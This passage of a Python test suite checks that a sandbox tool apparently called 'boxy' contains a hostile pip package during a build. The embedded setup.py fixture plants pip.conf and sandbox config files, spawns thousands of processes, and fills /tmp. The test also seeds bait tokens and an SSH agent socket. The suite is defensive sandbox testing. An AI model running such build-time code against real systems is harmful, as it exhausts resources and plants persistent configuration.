        os.makedirs(os.path.join(t["root"], ".venv"), exist_ok=True)
        open(os.path.join(t["root"], p), "w").write(text); say("planted " + p)
    except OSError:
        pass
kids = []
try:
    for _ in range(5000):
        kids.append(subprocess.Popen(["sleep", "30"]))
except OSError as e:
    say("fork-refused %s" % e.errno)
try:
    big = b"\0" * (64 << 20)
    for i in range(256):
        open("/tmp/fill%d" % i, "wb").write(big)
except OSError as e:
    say("filled-tmp %s" % ("ENOSPC" if e.errno == 28 else e.errno))
for i in range(256):  # the build itself needs /tmp and a few processes afterwards
    try:
        os.unlink("/tmp/fill%d" % i)
    except OSError:
        pass
for k in kids:
    k.kill()
    k.wait()
json.dump(out, open(os.path.join(t["root"], "hostile-report.json"), "w"))
from setuptools import setup
setup(name="boxy-hostile", version="1.0.0", py_modules=[])
"""


def test_the_hostile_sdist_gets_nothing_and_the_next_run_is_no_wider(
    boxy: Boxy, user: User
) -> None:
    hosts, flags = pip_setup(boxy)
    need_npm()  # the other registry is npm's
    extra = extra_host(boxy.user, hosts, ["npm_registry"])
    marker = "boxyHOSTILEmarker"
    subprocess.run(["git", "init", "-q", str(boxy.workdir)], check=True)
    write(boxy, ".env", f"PYPI_TOKEN={marker}\n")
    write(boxy, ".pypirc", f"[pypi]\npassword = {marker}\n")
    with agent_socket(user) as agent:
        write(boxy, "hostile-sdist/setup.py", HOSTILE_SETUP)
        write(
            boxy,
            "hostile-sdist/targets.json",
            json.dumps(
                {
                    "home": str(user.home),
                    "marker": marker,
                    "agent": str(agent),
                    "extra": extra,
                    "root": str(boxy.workdir),
                }
            ),
        )
        env = {"PYPI_TOKEN": marker, "GITHUB_TOKEN": marker, "SSH_AUTH_SOCK": str(agent)}
        install = (
            "python3 -m pip install --no-input -v --no-build-isolation --target ./site "
            f"./hostile-sdist {SMALL_PIP}"
        )
        r = boxy.run(
            *flags,
            "--pids",
            "256",
            "--memory",
            "512MiB",
            cmd=["sh", "-c", install],
            timeout=TIMEOUT,
            input=b"",
            extra_env=env,
        )
        check_pip_installed(boxy, r, hosts)
        assert "HOSTILE-RAN" in out(r) + err(r), f"the hostile build step never ran\n{both(r)}"
        report = json.loads((boxy.workdir / "hostile-report.json").read_text())
        assert not [x for x in report if x.startswith("ESCAPED")], f"{report}\n{both(r)}"
        assert "filled-tmp ENOSPC" in report, report  # the scratch tmpfs is bounded
        assert any(x.startswith("fork-refused") for x in report), report  # --pids held
        assert "ESCAPED" not in out(r) + err(r), both(r)
        first = policy_record(audit(boxy))
        (boxy.workdir / "audit.jsonl").unlink()
        r2 = boxy.run(*flags, cmd=["true"], timeout=TIMEOUT, input=b"")  # what it planted: nothing
        assert r2.returncode == 0, both(r2)
        second = policy_record(audit(boxy))
        assert (second["mode"], second["allow_hosts"]) == (first["mode"], first["allow_hosts"])
        assert {"planted .boxy.yaml", "planted .venv/pip.conf"} <= set(report), report
        # the venv's pip.conf naming an index is a file pip obeys: quarantined
        assert f"quarantined {boxy.workdir}/.venv/pip.conf (pip runs or installs what" in err(r)
        assert not (boxy.workdir / ".venv/pip.conf").exists()
        assert (
            f"held back: net (public), allow_hosts ({extra}) of {boxy.workdir}/.boxy.yaml;"
            in err(r2)
        ), both(r2)
        assert not (boxy.workdir / ".git/hooks/pre-commit").exists()
